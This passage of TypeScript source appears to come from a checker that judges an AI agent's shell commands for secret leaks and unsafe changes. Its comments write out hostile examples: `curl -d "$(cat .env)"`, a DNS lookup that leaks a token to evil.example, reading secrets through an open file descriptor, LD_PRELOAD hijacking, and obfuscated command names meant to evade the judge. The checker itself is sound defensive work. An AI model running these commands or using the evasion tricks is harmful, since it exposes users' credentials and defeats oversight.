    judgeArgv(st, [`${queried}${query[2]}`, ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    return { info: rec, cwd, env: nextEnv };
  }
  // A program below a directory the line captured from where it stands (PREFIX="$PWD/.local-prefix"; "$PREFIX/bin/tool"):
  // that path, as if written out (a guarded tool's name or a download there is still judged as such).
  const capturedCmd = !argvWords[0]!.static ? dirVarPath(st, argvWords[0]!.raw) : undefined;
  if (capturedCmd !== undefined) {
    judgeArgv(st, [capturedCmd, ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    return { info: rec, cwd, env: nextEnv };
  }
  if (!argvWords[0]!.static) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`the command name ${argvWords[0]!.raw} is only known when the line runs`);
    // Judge the arguments as if each tool the expression mentions were the command.
    // The expression, the text the line gave the variables it names (c=$(type -P curl)), and that
    // text with printf/echo escapes decoded ($(printf '\162\155')) are where the program is named.
    const raw = argvWords[0]!.raw;
    const given = [...raw.matchAll(/\$\{?([A-Za-z_]\w*)/g)].flatMap((m) => flat.flatMap((c) => c.assignments.filter((a) => a.name === m[1]).map((a) => a.value.raw)));
    const text = [raw, ...given].join(' ');
    // (…and what a substitution there prints, where the line knows it: $(printf '%.4s' curlxx) is curl.)
    const printed = flat.filter((c) => c.origin?.parent === fc.index && c.origin.location === 'argv' && c.origin.word?.raw === raw && c.stdoutTo.length === 0).map((c) => info[c.index]?.textOut ?? '');
    const named = `${text} ${unescape(text)} ${printed.join(' ')}`;
    for (const tool of [...NETWORK_TOOLS, 'rm', 'sh', 'bash']) if (new RegExp(`\\b${tool}\\b`).test(named)) judgeArgv(st, [tool, ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    if (/\$\{?(SHELL|BASH)\b/.test(argvWords[0]!.raw)) judgeArgv(st, ['bash', ...argv.slice(1)], cmdCtx, writes, stdinText, fc, flat, info, rec);
    return { info: rec, cwd, env: nextEnv };
  }
  // Secrets substituted into arguments: `curl -d "$(cat .env)"`, or a variable holding one (`-d "$K"`).
  // (Not a token a CLI prints for its own service used to authenticate: -H "Authorization: Bearer $(gh auth token)".
  // A secret file's text in a header — $(cat .env) — is still sent.)
  const authAt = (k: number) => k > 0 && authUse(argvWords[k - 1]?.value, argvWords[k]!.raw);
  const tokenPrinter = (i: Info | undefined) => i !== undefined && TOKEN_PRINTER.test(i.argv.join(' '));
  const substitutedSecret = flat.find((c) => c.origin?.parent === fc.index && c.origin.location === 'argv' && info[c.index]?.secretOut && !(tokenPrinter(info[c.index]) && argvWords.some((w, k) => w.raw === c.origin?.word?.raw && authAt(k))));
  // (…nor a variable holding such a token: TOKEN=$(gh auth token); curl -H "Authorization: Bearer $TOKEN".)
  const tokenVar = (v: string) => new RegExp(`(^|[\\s;&|(])${v}=["']?\\$\\(\\s*${TOKEN_PRINTERS}`).test(st.lineText);
  const varSecret = st.secretVars.size || st.sourcedSecret ? argvWords.filter((w, k) => !(authAt(k) && [...w.raw.matchAll(/\$\{?([A-Za-z_]\w*)/g)].every((m) => tokenVar(m[1]!)))).flatMap((w) => [...expansionsOf(w).matchAll(/\$\{?[#!]?([A-Za-z_]\w*)/g)].map((m) => secretOfVar(st, m[1]!, cmdEnv))).find((x) => x !== undefined) : undefined;
  // A credential from the agent's environment written into what a network tool sends (a body, a URL's
  // path or query, a commit message, a gist), or printed on for a later one — not one used to
  // authenticate: a header, -u, a credential-named option, a URL's user part (`curl -H "Authorization:
  // Bearer $GITHUB_TOKEN"`, `git push https://x:$GITHUB_TOKEN@github.com/…`).
  // (gh secret set for this repository stores the value as the repository's secret: its everyday use; so do a service
  // client's own settings and secrets — state.ts storesSetting.)
  // (kubectl/oc exec hand the words the local shell expanded to a pod on the cluster; jq --arg t "$TOKEN" prints it on, as echo does.)
  // (…its own words only, not a wrapper's: env GH_TOKEN="$GITHUB_TOKEN" gh … hands the client its own credential.)
  // (A name looked up is sent too — to the resolver and the name's own DNS servers: dig "$GITHUB_TOKEN.evil.example" hands the
  // token to whoever runs evil.example's, as a secret file's text there already was.)
  const sender = (NETWORK_TOOLS.has(innerName) || DNS_TOOLS.has(innerName) || serviceSends || /^(echo|printf|jq|gojq|jaq|yq)$/.test(innerName) || (/^(kubectl|oc)$/.test(innerName) && inner.argv.includes('exec')) || otherCluster(innerName, inner.argv.slice(1), innerEnv, st.ctx.env)) && !ghOwnSecret;
  // (Also through a name held in another variable: ${!n} with n=GITHUB_TOKEN, a declare -n reference, a copy.)
  // (A stored value is no authentication, whatever its option is called: aws secretsmanager put-secret-value --secret-string V
  // --profile other puts V in that account.)
  const storedElsewhere = !ownSetting && settingsVerb(innerName, inner.argv.slice(1));
  const envSecret = sender && !varSecret && !substitutedSecret ? argvWords.map((w, k) => ((k > 0 && k < inner.at) || (!storedElsewhere && authUse(argvWords[k - 1]?.value, w.raw)) ? undefined : [...expansionsOf(w).matchAll(/\$\{?(!?)([A-Za-z_]\w*)/g)].map((m) => credentialOf(st, m[2]!, cmdEnv, m[1] === '!')).find((x) => x !== undefined))).find((x) => x !== undefined) : undefined;
  if (/^(declare|typeset|local)$/.test(argv[0] ?? '') && argv.some((a) => /^-[a-zA-Z]*n/.test(a))) for (const a of argv.slice(1)) {
    const m = /^([A-Za-z_]\w*)=([A-Za-z_]\w*)$/.exec(a);
    if (m) {
      st.namerefs.set(m[1]!, m[2]!);
      st.references.set(m[1]!, m[2]!);
    }
  }
  const carried = substitutedSecret ? info[substitutedSecret.index]!.secretOut : varSecret ?? envSecret;
  st.appendOnly = new Set(fc.redirects.filter((r) => r.op === '>>' || r.op === '&>>').map((r) => r.target.value));
  st.truncated = new Set(fc.redirects.filter((r) => r.op === '>' || r.op === '>|' || r.op === '&>').map((r) => r.target.value));
  const sourcedBefore = st.sourcedSecret;
  judgeArgv(st, argv, cmdCtx, writes, stdinText, fc, flat, info, rec, carried);
  // A secret file sourced here may set any name: what the line assigned before is no longer known
  // (DATABASE_URL=… then `. ./.env`: "$DATABASE_URL" now holds the file's value).
  if (st.sourcedSecret !== undefined && st.sourcedSecret !== sourcedBefore) nextEnv = Object.fromEntries(Object.keys(nextEnv).map((k) => [k, undefined]));
  // (A registry auth token written into a package manager's config file: by redirection, or the files tee fills.)
  storedToken(st, [...writes, ...(rec.name === 'tee' ? rec.writesFiles : [])], argvWords.slice(1), stdinText);
  if (varSecret && !rec.secretOut && /^(echo|printf|cat|tee|base64|xxd|od)$/.test(rec.name)) {
    rec.secretOut = varSecret;
    st.readsSecret = true;
  }
  // A secret file's content the shell holds (sourced, or read into a variable) and prints to the
  // screen is read into the agent's context, as `cat .env` is: echo "$DATABASE_URL" after
  // `source .env`, env | sort after `set -a; . .env`. (The agent's own environment is not a file;
  // a count or a match test — wc, grep -c/-q — prints none of it.)
  if (rec.secretOut !== undefined && (rec.secretOut === st.sourcedSecret || rec.secretOut === varSecret) && /^\//.test(rec.secretOut) && fc.stdoutTo.length === 0 && !fc.redirects.some((r) => /^[0-9&]*>/.test(r.op)) && !DIGESTS.test(rec.name) && !(/^(grep|egrep|fgrep|rg)$/.test(rec.name) && argv.some((a) => /^-[a-zA-Z]*[cqlL]|^--(count|quiet|silent|files-with(out)?-match(es)?)$/.test(a)))) {
    const f = newFacts('<printed>');
    f.reads.push(rec.secretOut);
    st.out.push(judgeFacts(st.policy, f, [], cmdCtx));
  }
  // read/mapfile from a secret (redirected or piped) fill their variables with it.
  const stdinSecretPath = stdinSecret ?? (cmdCtx.stdin && isSecretPath(st, cmdCtx.stdin, cmdCtx) ? posix.resolve(cwd, cmdCtx.stdin.replace(/^~(?=\/|$)/, st.ctx.home)) : undefined);
  // read -u N / mapfile -u N read descriptor N: what `exec N< file` or `exec {v}< file` opened.
  const uArg = /^(read|mapfile|readarray)$/.test(rec.name) ? argvWords.slice(1).map((w, k, all) => (w.value === '-u' ? all[k + 1]?.raw : /^-[a-zA-Z]*u(.+)$/.exec(w.raw)?.[1])).find((x) => x !== undefined) : undefined;
  const uFile = uArg === undefined ? undefined : /^\d+$/.test(uArg) ? st.links.get(`/dev/fd/${uArg}`) : namedFd(uArg);
  const uSecret = uFile !== undefined && uFile !== 'pipe' && isSecretPath(st, uFile, cmdCtx) ? uFile : undefined;
  if ((stdinSecretPath ?? uSecret) && /^(read|mapfile|readarray)$/.test(rec.name)) {
    const valued = rec.name === 'read' ? /^-[dinNptu]$/ : /^-[dnOsuCc]$/;
    const names = argv.slice(1).filter((a, k, all) => /^[A-Za-z_]\w*$/.test(a) && !valued.test(all[k] ?? '') && !valued.test(argv.slice(1)[k - 1] ?? ''));
    // (IFS== read -r k v splits NAME=VALUE at its first =: k holds the name, the rest the value — as cut -d= -f1 shows names.)
    const nameOnly = rec.name === 'read' && names.length >= 2 && cmdEnv.IFS === '=' ? names[0] : undefined;
    for (const n of names.length ? names : [rec.name === 'read' ? 'REPLY' : 'MAPFILE']) if (n !== nameOnly) st.secretVars.set(n, (stdinSecretPath ?? uSecret)!);
  }
  // export/declare T=$(cat ~/.npmrc): the variable holds what the substitution printed.
  if (carried && /^(export|declare|typeset|local|readonly)$/.test(rec.name)) {
    for (const a of argv.slice(1)) {
      const m = /^([A-Za-z_]\w*)=/.exec(a);
      if (m) st.secretVars.set(m[1]!, carried);
    }
  }
  // (Text from nowhere the judge can read, replacing a tool's configuration: what a downloader or gh printed, or anything
  // after it on the pipe — gh api … | base64 -d > .yarnrc.yml; the clipboard; a substitution — echo "$(cat /tmp/y)" > .npmrc;
  // a file of what `git fetch URL` brought — git show FETCH_HEAD:.yarnrc.yml.)
  const unreadSource = (): string[] => [
    ...(rec.downloadOut ? ['https://downloaded'] : []),
    ...(/^(xclip|xsel|pbpaste|wl-paste|termux-clipboard-get)$/.test(rec.name) ? ['$CLIPBOARD'] : []),
    ...argvWords.slice(1).filter((w) => /\$\(|`|<\(/.test(w.raw) && /(?:^|[\s(<`=])(?:~|\.\.\/|\/(?!dev\/null))|:\/\/|\b(?:curl|wget|gh|glab|xclip|xsel|pbpaste|wl-paste|nc|ssh)\b/.test(w.raw)).map((w) => w.raw),
    ...(rec.name === 'git' && argv.some((a) => /^FETCH_HEAD\b/.test(a)) && /\bgit\s+fetch\s+(?:-\S+\s+)*(?:[a-z][\w+.-]*:\/\/|[\w.-]+@[\w.-]+:)/.test(st.lineText) ? ['$FETCH_HEAD'] : []),
  ];
  // State that later commands in the same line see.
  const name = rec.name;
  const text = rec.textOut ?? (name === 'cat' && stdinText !== undefined ? stdinText : undefined);
  if (text !== undefined) for (const w of writes) {
    const at = posix.resolve(cwd, w.replace(/^~(?=\/|$)/, st.ctx.home));
    rememberWritten(st, at, text, cwd);
    replacedConfig(st, at, unreadSource(), cwd);
  }
  // Output whose text is not known (xxd -r, rev, tr, a program's output) written by redirection,
  // and what dd/sponge/tee write from such a stream: a file this line made that nobody can read.
  else for (const w of writes) {
    st.opaqueWritten.set(posix.resolve(cwd, w.replace(/^~(?=\/|$)/, st.ctx.home)), rec);
    // (…and a tool's configuration replaced so, from a file or URL outside the project: cat /tmp/y > .yarnrc.yml.)
    replacedConfig(st, posix.resolve(cwd, w.replace(/^~(?=\/|$)/, st.ctx.home)), [...argv.slice(1).filter((a) => !a.startsWith('-') && (/^[/~$]/.test(a) || a.includes('://') || a.startsWith('..'))), ...(stdin !== undefined ? [stdin] : []), ...unreadSource()], cwd);
  }
  // tee writes what it is given to each of its files (and passes it on).
  if (name === 'tee' && stdinText !== undefined) {
    for (const w of rec.writesFiles) rememberWritten(st, w, stdinText, cwd);
    rec.textOut ??= stdinText;
  } else if (/^(tee|sponge)$/.test(name) && editedBy(fc, flat, info) !== undefined) {
    // (A JSON or YAML filter's output soaked back into a file — jq '.scripts.test="vitest run"' package.json | sponge
    // package.json — is that file with the filter's edit: the edit's text is judged where the file is read, as for jq … > f.)
    for (const w of rec.writesFiles) st.edits.set(w, editedBy(fc, flat, info)!);
  } else if (/^(tee|dd|sponge)$/.test(name) || (name === 'cp' && argv.some((a) => /^\/dev\/(stdin|fd\/0)$/.test(a)))) for (const w of rec.writesFiles) st.opaqueWritten.set(w, rec);
  // A decoder or decompressor that writes its output file itself (gunzip run.sh.gz, openssl base64 -d -in p -out run.sh, xxd -r
  // -p p.hex run.sh, uudecode -o run.sh): text nobody has read, as its output redirected into the file would be.
  // (…its -o/--output FILE too: uudecode -o, base64 -o, gpg -o, age -o.)
  if (rec.textOut === undefined && FILE_DECODERS.test(name)) {
    // (openssl also takes -out=FILE.)
    const named = argv.slice(1).flatMap((a, k, xs) => (/^(-o|-out|--output|--outfile)$/.test(xs[k - 1] ?? '') ? [a] : /^(--output|--outfile|-out)=/.test(a) ? [a.slice(a.indexOf('=') + 1)] : []));
    for (const w of [...rec.writesFiles, ...named.map((p) => posix.resolve(cwd, p.replace(/^~(?=\/|$)/, st.ctx.home)))]) if (!st.opaqueWritten.has(w) && !st.scripts.has(w)) st.opaqueWritten.set(w, rec);
  }
  // A redirected secret read by a non-network command prints it (while read … < .env, mapfile < f)
  // — unless it only counts or hashes it (wc -c < .env).
  // (…or shows none of its values: cut -d= -f1 < .env; IFS== read -r k v whose v the line never expands.)
  const literal = argvWords.length === argv.length && argvWords.every((w) => w.static);
  const namesOnly = literal && readsNamesOnly(argv, cmdEnv.IFS, st.lineText) && stdin !== undefined && isDotenv(resolve(stdin));
  // (Nor by a builtin that never reads its stdin, which a loop's redirect reaches too: while IFS== read -r k v; do echo "$k"; done < .env
  // — unless a substitution in its words runs a program that does: echo "$(cat)".)
  if (stdin && !NETWORK_TOOLS.has(name) && !digestOnly(name, argv.slice(1)) && !(/^(echo|printf|test|\[|\[\[|true|false|:|break|continue|shift|local|return|basename|dirname)$/.test(name) && argvWords[0]?.value === name && argv[0] === name && !argvWords.some((w) => /\$\(|`|[<>]\(/.test(w.raw))) && rec.judged && isSecretPath(st, resolve(stdin), cmdCtx) && !namesOnly && !(literal && showsNoValue(name, argv.slice(1))?.(resolve(stdin)))) {
    const f = newFacts('<stdin>');
    f.reads.push(resolve(stdin));
    st.out.push(judgeFacts(st.policy, f, [], cmdCtx));
  }
  // A program that runs code — an interpreter, a shell, a program named by its path — inherits every descriptor the line
  // opened, and can read one open on a secret by its number without naming the file: exec 3<.env; python3 -c 'os.read(3, …)'.
  // (…and so can a task or package runner, whose scripts and tests run with the descriptors it was given: npm test, make.)
  if (rec.judged && (isShell(name) || languageOf(name) !== undefined || CODE_RUNNERS.test(name) || (argv[0] ?? '').includes('/'))) {
    const held = [...st.links].filter(([k, file]) => /^\/dev\/fd\/\d+$/.test(k) && isSecretPath(st, file, cmdCtx)).map(([, file]) => file);
    if (held.length) {
      const f = newFacts('<descriptor>');
      f.reads.push(...new Set(held));
      st.out.push(judgeFacts(st.policy, f, [], cmdCtx));
    }
  }

  // A trap that changes directory before commands run (DEBUG, RETURN, ERR): where the next ones run is unknown.
  if (name === 'trap' && fc.depth === 0) {
    const [body = '', ...sigs] = rec.argv.slice(1).filter((a) => !a.startsWith('-'));
    if (/(^|[\s;&|({])(cd|pushd|popd)(\s|$|[;&|)])/.test(body) && !(sigs.length && sigs.every((s) => /^(EXIT|0|SIGEXIT)$/i.test(s)))) {
      st.oldpwd = cwd;
      cwd = UNKNOWN_CWD;
      st.childOf = undefined;
    }
  }
  // pushd DIR changes directory like cd; pushd +N/-N and popd go to a directory on the stack.
  if ((name === 'pushd' && /^[+-]\d+$/.test(rec.argv[1] ?? '')) || name === 'popd') {
    const before = cwd;
    st.childOf = undefined;
    cwd = name === 'popd' && st.oldpwd !== undefined && rec.argv.length === 1 ? st.oldpwd : UNKNOWN_CWD;
    st.oldpwd = before;
  } else if (name === 'eval' && fc.depth === 0 && /(^|[\s;&|({])(cd|pushd|popd)(\s|$|[;&|)])/.test(rec.argv.slice(1).join(' '))) {
    // eval "cd …": followed when it is one cd to a literal directory; otherwise where it lands is unknown.
    const text = rec.argv.slice(1).join(' ').trim();
    const to = /^cd\s+([\w./@+-]+)$/.exec(text)?.[1];
    const before = cwd;
    st.oldpwd = cwd;
    st.childOf = undefined;
    cwd = to !== undefined && fc.argv.slice(1).every((w) => w.static) ? settledCwd(st, fc, before, resolvePath(to, { cwd, home: st.ctx.home })) : UNKNOWN_CWD;
  } else if ((name === 'cd' || name === 'pushd') && fc.depth === 0) {
    // cd [-L|-P|-e|-@] [--] [DIR]: DIR known, the previous directory (-, ~-), or one only known at run
    // time (a variable, CDPATH) — then relative paths after it are computed, not the project's.
    const k = rec.argv.slice(1).findIndex((a) => !/^-[LPe@]+$|^--$/.test(a));
    const to = k < 0 ? undefined : rec.argv[k + 1];
    const word = k < 0 ? undefined : argvWords[k + 1];
    const home = /^(~|\$HOME|\$\{HOME\})(?=\/|$)/;
    const before = cwd;
    st.cwdGuess = undefined;
    // (`cd ..` out of a child entered by a computed name — cd "tmp-$$"; …; cd .. — is back where it was.)
    const parent = to === '..' && before === UNKNOWN_CWD ? st.childOf : undefined;
    st.childOf = undefined;
    if (to === undefined || to === '~') cwd = st.ctx.home;
    else if (parent !== undefined) cwd = parent;
    else if (to === '-' || to === '~-' || to.startsWith('~-/')) cwd = st.oldpwd !== undefined ? posix.join(st.oldpwd, to.slice(3)) : UNKNOWN_CWD;
    else if (/^"?\$\(git rev-parse --show-toplevel\)"?$/.test(word?.raw ?? '')) cwd = gitTop(st, cwd) ?? st.ctx.projectRoot;
    // cd "$(dirname 'scripts/x.sh')/.." (a script's own $0, filled in): the directory of a literal path.
    else if (dirnameOf(word?.raw ?? '') !== undefined) cwd = resolvePath(dirnameOf(word!.raw)!, { cwd, home: st.ctx.home });
    // (Through CDPATH bash goes to CDPATH-DIR/TO when that exists and to ./TO otherwise: not known here. With one
    // directory in CDPATH, what the later commands name there is judged as in CDPATH-DIR/TO too: CDPATH=~ cd .ssh.)
    else if ((env.CDPATH || cmdEnv.CDPATH) && !/^(\/|\.{1,2}(\/|$))/.test(to)) {
      const entries = (cmdEnv.CDPATH ?? env.CDPATH ?? '').split(':');
      const one = entries.length === 1 && entries[0] !== '' && entries[0] !== '.' && !/[$`]/.test(entries[0]!.replace(home, '')) ? resolvePath(entries[0]!.replace(home, '~'), { cwd, home: st.ctx.home }) : undefined;
      // (Both places count: CDPATH-DIR/TO and ./TO — CDPATH=/tmp cd .kube from ~ is ~/.kube.)
      st.cwdGuess = word?.static ? [...(one !== undefined ? [posix.join(one, to)] : []), ...(cwd !== UNKNOWN_CWD ? [posix.join(cwd, to)] : [])] : undefined;
      cwd = UNKNOWN_CWD;
    }
    else if (word?.static || home.test(to)) cwd = resolvePath(to, { cwd, home: st.ctx.home });
    else cwd = namedCwd(st, to, env, cwd) ?? UNKNOWN_CWD;
    // (A name with a literal start and no slash, its computed parts included — "pkg-$n", tmp-$$ — is taken as a child of
    // the directory, as a path below it is: see pathClassifier.)
    if (cwd === UNKNOWN_CWD && before !== UNKNOWN_CWD && !word?.static && /^[^/$`~.\s][^/]*$/.test(to ?? '')) st.childOf = before;
    // (A cd that may fail leaves OLDPWD as it was — inherited, unknown, unless the line set it to this same place.)
    st.oldpwdUnsure = st.oldpwd !== before && cdMayFail(st, fc);
    st.oldpwd = before;
    cwd = settledCwd(st, fc, before, cwd);
    // (…and `cd ..` out of a directory it entered does not fail: no other place to judge what follows in.)
    if (parent !== undefined) st.altCwds = [];
  }
  if (st.cwdLost || st.cwdAfter) st.childOf = undefined;
  if (st.cwdLost) {
    st.cwdLost = false;
    cwd = UNKNOWN_CWD;
  } else if (st.cwdAfter) {
    ({ cwd } = st.cwdAfter);
    st.oldpwd = st.cwdAfter.oldpwd;
    st.oldpwdUnsure = st.cwdAfter.unsure;
    // (Where the body's cd may not have happened, the caller goes on in either place.)
    st.altCwds = [...new Set([...st.altCwds, ...st.cwdAfter.alt])].filter((d) => d !== cwd).slice(-4);
    st.cwdAfter = undefined;
  }
  // Volumes, disks and mounts made for a container or a VM: a later command of the line that runs there reaches them.
  recordContainerSetup(st.containers, name, rec.argv.slice(1));
  if (name === 'git') {
    // git worktree add [opts] PATH: the same repository, with the project's remotes, where a later cd goes.
    const wt = rec.argv.indexOf('worktree');
    // (One that may fail and be passed over — `; cd PATH` — counts only where PATH does not exist yet: if the add fails
    // there, the cd fails too; PATH that exists may be another repository, made by an earlier call. Where the disk
    // cannot be asked, the add is taken as made.)
    // (…and only a worktree of the project's repository: git -C /tmp/other worktree add, --git-dir=…, GIT_DIR=…, or a cd out
    // of the project first, add one of another repository, whose build files and remotes are that repository's.)
    const global = rec.argv.slice(1, Math.max(1, wt));
    const repoAt = global.map((a, k) => (global[k - 1] === '-C' ? a : undefined)).filter((x) => x !== undefined).reduce((at, d) => resolvePath(d, { cwd: at, home: st.ctx.home }), cwd);
    const ownRepo = !global.some((a) => /^--(git-dir|work-tree)(=|$)/.test(a)) && cmdEnv.GIT_DIR === undefined && cmdEnv.GIT_WORK_TREE === undefined && !movedOut(st.ctx, repoAt, st.worktrees);
    if (wt > 0 && rec.argv[wt + 1] === 'add' && ownRepo) {
      const words = rec.argv.slice(wt + 2);
      for (let i = 0; i < words.length; i++) {
        if (WORKTREE_VALUED.test(words[i]!)) { i++; continue; }
        if (words[i]!.startsWith('-')) continue;
        const at = resolvePath(words[i]!, { cwd, home: st.ctx.home });
        if (!cdMayFail(st, fc) || st.ctx.realpath === undefined || st.ctx.realpath(at) === undefined) st.worktrees.add(at);
        break;
      }
    }
    // git clone [opts] URL [DIR], with what follows run only if it succeeded: DIR is a new repository (git refuses a
    // directory that is not empty) — nothing in it is the user's work.
    const c = rec.argv.indexOf('clone');
    if (c > 0 && rec.argv.slice(1, c).every((a) => a.startsWith('-') && !/^(-C|--git-dir|--work-tree)/.test(a)) && !cdMayFail(st, fc) && !rec.argv.some((a) => /^--(separate-git-dir|bare|mirror)/.test(a))) {
      const ops = rec.argv.slice(c + 1).filter((a, i, all) => !a.startsWith('-') && !CLONE_VALUED.test(all[i - 1] ?? ''));
      const dir = ops[1] ?? ops[0]?.replace(/\/+$/, '').replace(/\.git$/, '').split(/[/:]/).at(-1);
      if (ops[0] !== undefined && dir) st.clones.add(resolvePath(dir, { cwd, home: st.ctx.home }));
    }
    // git checkout/switch BRANCH (or -b/-c NEW): later plain pushes in the line push that branch.
    const switched = switchedBranch(rec.argv.slice(1));
    if (switched !== undefined) st.branch = switched;
    const k = rec.argv.indexOf('config');
    const key = rec.argv.slice(k + 1).find((a) => !a.startsWith('-'));
    const m = key && /^alias\.(.+)$/i.exec(key);
    if (k > 0 && m) st.gitAliases.set(m[1]!.toLowerCase(), rec.argv[rec.argv.indexOf(key!) + 1] ?? '');
    // git remote add [-f] [-t B] [-m M] [--mirror=…] NAME URL, git remote set-url NAME URL: later pushes to NAME go there.
    const r = rec.argv.indexOf('remote');
    const verb = r > 0 ? rec.argv[r + 1] : undefined;
    if (verb === 'add' || verb === 'set-url') {
      const ops = rec.argv.slice(r + 2).filter((a, i, all) => !a.startsWith('-') && !/^(-t|--track|-m|--master)$/.test(all[i - 1] ?? ''));
      if (ops.length >= 2 && !rec.argv.includes('--push') && !rec.argv.includes('--add')) st.gitRemotes.set(ops[0]!, ops[1]!);
    }
  }
  if (name === 'alias') {
    for (const a of rec.argv.slice(1)) {
      const m = /^([^=]+)=(.*)$/s.exec(a);
      if (m) st.aliases.set(m[1]!, m[2]!);
    }
  }
  if (name === 'export' || name === 'declare' || name === 'typeset' || name === 'local' || name === 'readonly') {
    for (const a of rec.argv.slice(1)) {
      const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a);
      if (m) nextEnv = { ...nextEnv, [m[1]!]: m[2] };
    }
    // (export NAME, declare -x NAME=v: a child shell started later has NAME; export -n takes it back.)
    // (declare/typeset/local/readonly export only with -x, and +x takes it back.)
    const flags = rec.argv.slice(1).filter((a) => /^[-+][a-zA-Z]+$/.test(a));
    const exporting = name === 'export' ? !flags.some((f) => /^-\w*n/.test(f)) : flags.some((f) => /^-\w*x/.test(f)) ? true : flags.some((f) => /^\+\w*x/.test(f)) ? false : undefined;
    // (-x and +x together: which wins is the shell's business, not the line's — not surely exported.)
    const both = flags.some((f) => /^-\w*x/.test(f)) && flags.some((f) => /^\+\w*x/.test(f));
    for (const a of rec.argv.slice(1)) {
      const n = /^([A-Za-z_]\w*)(?:=|$)/.exec(a)?.[1];
      if (n !== undefined && exporting !== undefined) exporting ? st.exported.add(n) : st.exported.delete(n);
      if (n !== undefined && both) st.exportUnsure.add(n);
    }
    // A declaration given NAME=(…) as quoted text — declare -a "a=(\$(…))", typeset 'x=($(…))', declare -a "a=($p)" — is
    // read again by the builtin as the compound assignment it spells, whose substitutions then run: that text is judged as
    // the assignment statement it is (one whose text is only known at run time is not understood).
    // (A compound assignment the shell parsed itself — declare -a a=(x y), local -a f=("$@") — ran its expansions already.)
    for (const a of fc.assignments) {
      if (a.scope !== 'declaration' || a.value.parts.some((p) => p.kind === 'array') || !a.value.value.trimStart().startsWith('(')) continue;
      if (a.value.static) st.sub(`${a.name}=${a.value.value.trimStart()}`, cwd, env);
      else {
        st.lineTags.tags.add('dynamic-command');
        st.lineTags.notes.push(`${name} reads ${a.name}=${a.value.value} as a compound assignment, whose text is only known at run time`);
      }
    }
    // (…so is a word that only becomes NAME=(…) as it expands — v='a=($(…))'; declare -a "$v" — and one wholly computed,
    // declare -a "$1", may be any such text.)
    for (let k = 1; k < argvWords.length; k++) {
      const w = argvWords[k]!;
      if (!/^"?[$`]/.test(w.raw) || rec.argv[k]!.startsWith('-')) continue;
      const text = rec.argv[k]!;
      if (w.static && /^[A-Za-z_]\w*(\[[^\]]*\])?\+?=\s*\([\s\S]*\)\s*$/.test(text)) st.sub(text, cwd, env);
      else if (!w.static && name !== 'export' && !computedName(w)) {
        st.lineTags.tags.add('dynamic-command');
        st.lineTags.notes.push(`${name} is given ${w.raw}, text only known at run time that it reads as an assignment (a compound one runs its substitutions)`);
      }
    }
    // A name computed at run time (export "$k=$v", declare "${p}_HOME=…") may be PATH, HOME or LD_PRELOAD:
    // what later programs load and read is not known.
    if (argvWords.slice(1).some(computedName)) {
      st.lineTags.tags.add('dynamic-command');
      st.lineTags.notes.push(`${name} assigns a variable whose name is computed at run time`);
    }
  }
  // Names a builtin sets at run time (read, mapfile, printf -v, unset, getopts): no longer what the
  // line assigned before — a trap judged at the end sees them unknown.
  // (printf -v NAME FORMAT ARGS with literal words: that text.)
  if (/^(read|mapfile|readarray|printf|unset|getopts)$/.test(name) && argvWords.length > 1) {
    const args = rec.argv.slice(1);
    const v = args.findIndex((a) => a === '-v' || /^-v[A-Za-z_]/.test(a));
    const names = name === 'printf' ? (v < 0 ? [] : [args[v] === '-v' ? args[v + 1] ?? '' : args[v]!.slice(2)]) : args.filter((a) => /^[A-Za-z_]\w*$/.test(a));
    const known = name === 'printf' && v >= 0 && argvWords.every((w) => w.static) ? printfText(args.slice(args[v] === '-v' ? v + 2 : v + 1)) : undefined;
    // (A setting tools read — a proxy, a registry, a pager, a cluster's config — is held as computed: each tool reading it asks.)
    for (const n of names) nextEnv = { ...nextEnv, [n]: known ?? (name !== 'unset' && toolSetting(n) ? `$(${name})` : undefined), [`${n}[@]`]: undefined };
    // (…nor a directory it captured: ROOT=$(pwd); LOG="$ROOT/x"; read -r LOG < f — LOG holds what f says.)
    for (const n of names) st.dirVars.delete(n);
    // (…and a name the judge watches where it is assigned — PATH, LD_PRELOAD, HOME, NODE_OPTIONS, a proxy — is judged as
    // assigned what the builtin gives: read -r LD_PRELOAD <<< /tmp/x.so as LD_PRELOAD=…, unknown unless printf's literal text.)
    if (name !== 'unset') for (const n of names) if (/^[A-Za-z_]\w*$/.test(n)) assignmentTags(st, n, known ?? `$(${name})`, known !== undefined, cwd);
  }
  return { info: rec, cwd, env: nextEnv };
}

/**
 * Keeps st.generatedKubeconfigs: a kubeconfig a local-cluster tool prints into a file (kind get kubeconfig > f, k3d kubeconfig
 * get c > f) or writes where it is told (kind export kubeconfig --kubeconfig f, k3d kubeconfig write c -o f) is that tool's
 * own text — a cluster on this machine and its certificates, no exec plugin — not content the line planted. Any other write
 * of the file makes it unknown again. (A merge into a file that was already there keeps what it held: not counted.)
 */
function kubeconfigsWritten(st: State, fc: FlatCommand, rec: Info, cwd: string): void {
  const abs = (p: string) => posix.resolve(cwd, p.replace(/^~(?=\/|$)/, st.ctx.home));
  for (const w of rec.writesFiles) st.generatedKubeconfigs.delete(abs(w));
  const [prog = '', ...args] = rec.argv;
  const words = args.filter((a) => !a.startsWith('-'));
  const sub = words.slice(0, 2).join(' ');
  if (!fc.argv.every((w) => w.static) || !/^(kind|k3d)$/.test(posix.basename(prog))) return;
  const printed = (prog.endsWith('kind') && sub === 'get kubeconfig') || (prog.endsWith('k3d') && sub === 'kubeconfig get');
  if (printed) {
    for (const r of fc.redirects) if ((r.fd === null || r.fd === 1) && /^>\|?$/.test(r.op) && r.target.static) st.generatedKubeconfigs.add(abs(r.target.value));
    return;
  }
  const written = (prog.endsWith('kind') && sub === 'export kubeconfig') || (prog.endsWith('k3d') && sub.startsWith('kubeconfig write'));
  const k = args.findIndex((a) => /^(--kubeconfig|--output|-o)$/.test(a));
  const to = k >= 0 ? args[k + 1] : args.find((a) => /^--(kubeconfig|output)=/.test(a))?.replace(/^--\w+=/, '');
  if (written && to !== undefined && !fileExists(st.ctx, abs(to)) && !st.written.has(abs(to))) st.generatedKubeconfigs.add(abs(to));
}

/** A copy or move whose sources are all the project's own files (cp dist/cli.js node_modules/.bin/acme): the program is the project's. */
function projectCopy(st: State, name: string, argv: readonly string[], cwd: string): boolean {
  if (!/^(cp|mv|install)$/.test(name)) return false;
  // (With a target directory given by option — -t DIR, -at DIR, --target-directory=DIR — the last operand is a source:
